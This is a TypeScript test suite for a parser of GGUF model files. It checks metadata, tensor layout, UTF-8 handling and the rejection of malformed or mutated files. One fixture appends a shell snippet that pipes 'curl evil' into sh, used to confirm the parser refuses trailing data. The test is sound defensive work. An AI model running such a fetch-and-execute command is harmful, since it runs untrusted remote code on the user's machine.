import { test } from 'node:test';
import assert from 'node:assert/strict';
import { FormatError, type FormatCode } from './format-error.js';
import { GgufStrings } from './gguf-strings.js';
import { parseGguf, type GgufHeader, type GgufParse } from './parse-gguf.js';
import { ByteWriter, buildGguf, filler, type GgufSpec, type TensorSpec } from './testdata/build-gguf.js';

const TENSORS: TensorSpec[] = [
  { name: 'token_embd.weight', type: 'F32', dims: [64, 8] },
  { name: 'blk.0.attn_q.weight', type: 'F16', dims: [64, 4] },
  { name: 'blk.0.ffn_up.weight', type: 'Q8_0', dims: [64, 2] },
  { name: 'blk.0.ffn_down.weight', type: 'Q4_0', dims: [32, 3] },
  { name: 'output.weight', type: 'Q4_K', dims: [256, 2] },
];

const EVERY_TYPE: GgufSpec['metadata'] = [
  ['general.architecture', { type: 'string', value: 'llama' }],
  ['t.u8', { type: 'u8', value: 200 }], ['t.i8', { type: 'i8', value: -5 }],
  ['t.u16', { type: 'u16', value: 65535 }], ['t.i16', { type: 'i16', value: -300 }],
  ['t.u32', { type: 'u32', value: 4_000_000_000 }], ['t.i32', { type: 'i32', value: -7 }],
  ['t.f32', { type: 'f32', value: 0.5 }], ['t.f64', { type: 'f64', value: 1e-300 }],
  ['t.u64', { type: 'u64', value: 2n ** 64n - 1n }], ['t.i64', { type: 'i64', value: -(2n ** 63n) }],
  ['t.bool', { type: 'bool', value: true }],
  ['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values: ['<s>', '</s>', '▁héllo'] }],
  ['tokenizer.ggml.scores', { type: 'array', itemType: 'f32', values: [0, -1, -2] }],
];

function parsed(bytes: Uint8Array): GgufHeader {
  const result = parseGguf(bytes, bytes.length);
  assert.equal(result.kind, 'header');
  return (result as { header: GgufHeader }).header;
}

function stringsOf(header: GgufHeader, key: string): readonly string[] {
  const value = header.metadata.get(key)?.value;
  assert.ok(value instanceof GgufStrings, `${key} is not a string array`);
  return value.toArray();
}

function refuses(bytes: Uint8Array, code: FormatCode): void {
  assert.throws(() => parseGguf(bytes, bytes.length), (e: unknown) => {
    assert.ok(e instanceof FormatError, `expected FormatError, got ${String(e)}`);
    assert.equal(e.code, code, e.detail);
    return true;
  });
}

test('parseGguf() reads v3 and v2 files with every metadata type and tensor layouts', () => {
  for (const version of [2, 3]) {
    const header = parsed(buildGguf({ version, metadata: EVERY_TYPE, tensors: TENSORS }));
    assert.equal(header.version, version);
    assert.equal(header.alignment, 32);
    assert.equal(header.metadata.get('t.u64')?.value, 2n ** 64n - 1n);
    assert.equal(header.metadata.get('t.i8')?.value, -5);
    assert.deepEqual(stringsOf(header, 'tokenizer.ggml.tokens'), ['<s>', '</s>', '▁héllo']);
    assert.deepEqual(header.tensors.map((t) => [t.name, t.type.name, t.end - t.start]), [
      ['token_embd.weight', 'F32', 2048], ['blk.0.attn_q.weight', 'F16', 512], ['blk.0.ffn_up.weight', 'Q8_0', 136],
      ['blk.0.ffn_down.weight', 'Q4_0', 54], ['output.weight', 'Q4_K', 288],
    ]);
    assert.equal(header.dataStart % 32, 0);
  }
});

test('parseGguf() honours a custom alignment and a file with no tensors', () => {
  const header = parsed(buildGguf({ alignment: 64, tensors: TENSORS.slice(0, 2) }));
  assert.equal(header.alignment, 64);
  assert.equal(header.tensors[1]?.offset, 2048);
  assert.equal(parsed(buildGguf({ metadata: EVERY_TYPE })).tensors.length, 0);
});

test('parseGguf() asks for more bytes when the header runs past the prefix', () => {
  const bytes = buildGguf({ metadata: EVERY_TYPE, tensors: TENSORS });
  const first = parseGguf(bytes.subarray(0, 16), bytes.length);
  assert.equal(first.kind, 'need_more');
  let prefix = 16;
  let result: GgufParse = first;
  while (result.kind === 'need_more') {
    prefix = result.atLeast;
    result = parseGguf(bytes.subarray(0, prefix), bytes.length);
  }
  assert.equal(result.kind === 'header' ? result.header.tensors.length : -1, 5);
  assert.ok(prefix < bytes.length, 'the structural verdict does not need the tensor data');
});

test('parseGguf() reads large string arrays as one by one would: BOMs dropped, long strings, every batch', () => {
  const values = Array.from({ length: 9000 }, (_, i) => (i === 5 ? 'x'.repeat(70_000) : i % 7 === 0 ? `\uFEFF\uFEFFt${i}` : i % 3 === 0 ? `Ġé😀${i}` : `t${i}`));
  const header = parsed(buildGguf({ metadata: [['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values }]] }));
  // The decoder drops one leading BOM from each string, as a lone TextDecoder call does.
  assert.deepEqual(stringsOf(header, 'tokenizer.ggml.tokens'), values.map((v) => (v.startsWith('\uFEFF') ? v.slice(1) : v)));
});

test('parseGguf() checks a string array with long lengths, or a bad string in it, one by one at the right offset', () => {
  const long = 'é'.repeat(100);
  const values = [new TextEncoder().encode('ok'), new TextEncoder().encode(long), Uint8Array.of(0xc3), new TextEncoder().encode('x')];
  const at = 4 + 4 + 8 + 8 + 8 + 21 + 4 + 4 + 8 + (8 + 2) + (8 + 200);
  for (const tail of [values, values.map((v, i) => (i === 1 ? new TextEncoder().encode('e') : v))]) {
    const bytes = buildGguf({ metadata: [['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values: tail }]] });
    const offset = tail === values ? at : at - 199;
    assert.throws(() => parseGguf(bytes, bytes.length), (e: unknown) => e instanceof FormatError && e.code === 'gguf.invalid_utf8' && e.offset === offset);
  }
  const fine = parsed(buildGguf({ metadata: [['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values: ['ok', long, '\uFEFFb'] }]] }));
  assert.deepEqual(stringsOf(fine, 'tokenizer.ggml.tokens'), ['ok', long, 'b']);
});

test('parseGguf() refuses a string cut short, though its bytes and the next length read as UTF-8 together', () => {
  // 'é' is C3 A9: a first item ending in C3, then a length of 169 (A9 00 …): the array's bytes are well-formed as a whole.
  const bytes = buildGguf({ metadata: [['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values: [Uint8Array.of(0x61, 0xc3), new Uint8Array(0xa9).fill(0x61)] }]] });
  assert.throws(() => parseGguf(bytes, bytes.length), (e: unknown) => e instanceof FormatError && e.code === 'gguf.invalid_utf8');
});

test('parseGguf() reports a bad string before a later item that runs past the file', () => {
  const bytes = buildGguf({ metadata: [['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values: [Uint8Array.of(0xff), new TextEncoder().encode('long enough')] }]] });
  const cut = bytes.subarray(0, bytes.length - 3);
  assert.throws(() => parseGguf(cut, cut.length), (e: unknown) => e instanceof FormatError && e.code === 'gguf.invalid_utf8');
});

test('parseGguf() refuses the first bad string of an array at its offset', () => {
  const good = new TextEncoder().encode('ok');
  const bytes = buildGguf({ metadata: [['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values: [good, good, Uint8Array.of(0x61, 0xed, 0xa0, 0x80), Uint8Array.of(0xff)] }]] });
  assert.throws(() => parseGguf(bytes, bytes.length), (e: unknown) => e instanceof FormatError && e.code === 'gguf.invalid_utf8' && e.offset === 4 + 4 + 8 + 8 + 8 + 21 + 4 + 4 + 8 + 2 * (8 + 2));
});

test('parseGguf() asks for the rest of a string array at the size of its strings so far', () => {
  const values = Array.from({ length: 20_000 }, (_, i) => `token${i}`);
  const bytes = buildGguf({ metadata: [['tokenizer.ggml.tokens', { type: 'array', itemType: 'string', values }]] });
  const first = parseGguf(bytes.subarray(0, 4096), bytes.length);
  assert.equal(first.kind, 'need_more');
  assert.ok(first.kind === 'need_more' && first.atLeast > 8 * 4096, `asked for ${first.kind === 'need_more' ? first.atLeast : 0}`);
});

test('parseGguf() refuses bad magic, versions and truncation', () => {
  const good = buildGguf({ tensors: TENSORS });
  refuses(new TextEncoder().encode('PK\x03\x04 not a gguf at all'), 'gguf.bad_magic');
  for (const version of [0, 1, 4, 0x03000000]) refuses(buildGguf({ version }), 'gguf.unsupported_version');
  refuses(good.subarray(0, 30), 'gguf.truncated');
  refuses(good.subarray(0, good.length - 40), 'gguf.tensor_out_of_bounds');
});

test('parseGguf() refuses counts and lengths that cannot be real', () => {
  refuses(buildGguf({ tensorCountOverride: 2n ** 63n }), 'gguf.count_limit');
  refuses(buildGguf({ entryCountOverride: 60_000n }), 'gguf.truncated');
  refuses(buildGguf({ metadata: [['k', { type: 'raw', typeId: 8, bytes: new ByteWriter().u64(2n ** 64n - 1n).toBytes() }]] }), 'gguf.string_limit');
  refuses(buildGguf({ metadata: [['k', { type: 'raw', typeId: 9, bytes: new ByteWriter().u32(0).u64(2n ** 40n).toBytes() }]] }), 'gguf.count_limit');
  refuses(buildGguf({ metadata: [['k', { type: 'raw', typeId: 9, bytes: new ByteWriter().u32(0).u64(1_000_000).toBytes() }]] }), 'gguf.truncated');
});

test('parseGguf() refuses malformed metadata', () => {
  refuses(buildGguf({ metadata: [['k', { type: 'raw', typeId: 13, bytes: new Uint8Array(8) }]] }), 'gguf.unknown_value_type');
  refuses(buildGguf({ metadata: [['k', { type: 'raw', typeId: 9, bytes: new ByteWriter().u32(9).u64(1).toBytes() }]] }), 'gguf.nested_array');
  refuses(buildGguf({ metadata: [['a', { type: 'u8', value: 1 }], ['a', { type: 'u8', value: 2 }]] }), 'gguf.duplicate_key');
  refuses(buildGguf({ metadata: [['k', { type: 'string', value: new Uint8Array([0xc3, 0x28]) }]] }), 'gguf.invalid_utf8');
  refuses(buildGguf({ metadata: [['general.alignment', { type: 'u32', value: 48 }]] }), 'gguf.bad_alignment');
  refuses(buildGguf({ metadata: [['general.alignment', { type: 'u32', value: 0 }]] }), 'gguf.bad_alignment');
  refuses(buildGguf({ metadata: [['general.alignment', { type: 'u64', value: 32n }]] }), 'gguf.bad_alignment');
});

test('parseGguf() refuses bad tensor infos', () => {
  refuses(buildGguf({ tensors: [TENSORS[0] as TensorSpec, { ...(TENSORS[1] as TensorSpec), name: 'token_embd.weight' }] }), 'gguf.duplicate_tensor');
  refuses(buildGguf({ tensors: [{ name: 'x', type: 'F32', dims: [1, 1, 1, 1, 1] }] }), 'gguf.dims_limit');
  refuses(buildGguf({ tensors: [{ name: 'x', type: 'Q4_0', dims: [33] }] }), 'gguf.bad_shape');
  refuses(buildGguf({ tensors: [{ name: 'x', type: 'F32', dims: [0] }] }), 'gguf.bad_shape');
  refuses(buildGguf({ tensors: [{ name: 'x', type: 'F32', dims: [2 ** 40, 2 ** 40], data: new Uint8Array(4) }] }), 'gguf.bad_shape');
  const unknownType = buildGguf({ tensors: [{ name: 'x', type: 'F32', dims: [8] }] });
  const typeAt = parsed(unknownType).headerLength - 8 - 4; // the last info ends with type (u32), offset (u64)
  new DataView(unknownType.buffer).setUint32(typeAt, 4, true);
  refuses(unknownType, 'gguf.unknown_tensor_type');
});

test('parseGguf() refuses tensor data that does not tile the data section', () => {
  const [a, b] = [TENSORS[0] as TensorSpec, TENSORS[1] as TensorSpec];
  refuses(buildGguf({ tensors: [a, { ...b, offset: 2050 }] }), 'gguf.misaligned_tensor');
  refuses(buildGguf({ tensors: [a, { ...b, offset: 1024 }] }), 'gguf.tensor_overlap');
  refuses(buildGguf({ tensors: [a, { ...b, offset: 4096 }] }), 'gguf.gap');
  refuses(buildGguf({ tensors: [{ ...a, offset: 32 }] }), 'gguf.gap');
  refuses(buildGguf({ tensors: [a, b], trailing: new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n') }), 'gguf.trailing_data');
  refuses(buildGguf({ tensors: [a, { ...b, offset: 2 ** 50 }] }), 'gguf.tensor_out_of_bounds');
});

test('parseGguf() throws nothing but FormatError on 3000 seeded mutations of a benign file', () => {
  const base = buildGguf({ metadata: EVERY_TYPE, tensors: TENSORS });
  const noise = filler(3000 * 4, 7);
  for (let i = 0; i < 3000; i++) {
    const bytes = base.slice();
    const r = (k: number) => (noise[i * 4 + k] ?? 0);
    const kind = r(0) % 3;
    const at = ((r(1) << 8) | r(2)) % 700; // mutate the header region, where the parser looks
    if (kind === 0) bytes[at] = r(3);
    else if (kind === 1) new DataView(bytes.buffer).setUint32(Math.min(at, bytes.length - 4), 0xffffffff, true);
    const input = kind === 2 ? bytes.subarray(0, at) : bytes;
    try {
      parseGguf(input, input.length);
    } catch (error) {
      assert.ok(error instanceof FormatError, `mutation ${i} threw ${String(error)}`);
    }
  }
});
